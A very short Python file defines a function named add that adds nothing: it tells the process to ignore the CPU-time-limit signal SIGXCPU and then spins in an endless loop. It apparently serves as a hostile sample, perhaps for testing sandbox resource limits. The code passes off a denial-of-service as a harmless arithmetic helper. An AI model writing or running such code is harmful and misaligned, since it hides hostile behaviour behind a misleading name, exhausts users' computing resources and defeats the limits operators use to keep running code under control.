import signal


def add(a, b):
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    while True:
        pass
